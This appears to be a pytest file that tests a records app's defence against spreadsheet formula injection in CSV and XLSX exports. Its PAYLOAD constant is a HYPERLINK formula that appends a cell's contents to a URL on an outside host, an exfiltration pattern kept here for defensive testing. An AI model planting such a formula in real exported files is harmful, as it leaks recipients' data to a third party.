"""Spreadsheet formula injection (OWASP CSV injection): every cell a spreadsheet would evaluate
is written inert — in CSV behind a single quote, in XLSX as a string cell, never a formula —
and read back on import as it was before we neutralised it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from api.transfer.tabular import inert_cell, read_rows, restored_cell, write_csv, write_xlsx

PAYLOAD = '=HYPERLINK("http://x.cn/?"&G2,"点")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize("lead", TRIGGERS)
def test_a_csv_cell_starting_with_a_formula_character_is_written_behind_a_quote(
    lead: str,
) -> None:
    value = lead + "1+1"
    assert inert_cell(value) == "'" + value
    out = io.StringIO()
    write_csv(out, ["户主姓名"], [[value]])
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'" + value]


@pytest.mark.parametrize("value", ["张三", "13812345678", "李家村3组", "", "1-2", "a=b", "'x"])
def test_a_cell_no_spreadsheet_evaluates_is_written_as_it_is(value: str) -> None:
    assert inert_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert inert_cell(-3) == -3
    assert inert_cell(-120.5) == -120.5


@given(st.text(alphabet=["'", "=", "+", "-", "@", "\t", "＝", "a", "1", "张"], max_size=8))
def test_a_neutralised_cell_is_read_back_as_it_was(value: str) -> None:
    assert restored_cell(str(inert_cell(value))) == value


def test_a_quote_we_did_not_add_is_kept() -> None:
    assert restored_cell("'abc") == "'abc"
    assert restored_cell("'") == "'"


def test_an_xlsx_cell_with_a_formula_is_written_as_a_string_never_a_formula() -> None:
    out = io.BytesIO()
    write_xlsx(
        out, ["户主姓名", "手机号", "备注"], [[PAYLOAD, "+8613812345678", "@SUM(A1)"]], sheet="农户"
    )
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    [cells] = list(sheet.iter_rows(min_row=2))
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    assert [c.value for c in cells] == [PAYLOAD, "+8613812345678", "@SUM(A1)"]


def test_a_formula_cell_exported_reimports_as_the_original_value() -> None:
    text = io.StringIO()
    write_csv(text, ["户主姓名"], [[PAYLOAD], ["-5"], ["'=already quoted"]])
    rows = list(read_rows(text.getvalue().encode(), "x.csv"))
    assert rows[1:] == [[PAYLOAD], ["-5"], ["'=already quoted"]]
    binary = io.BytesIO()
    write_xlsx(binary, ["户主姓名"], [[PAYLOAD], ["-5"]], sheet="农户")
    rows = list(read_rows(binary.getvalue(), "x.xlsx"))
    assert rows[1:] == [[PAYLOAD], ["-5"]]
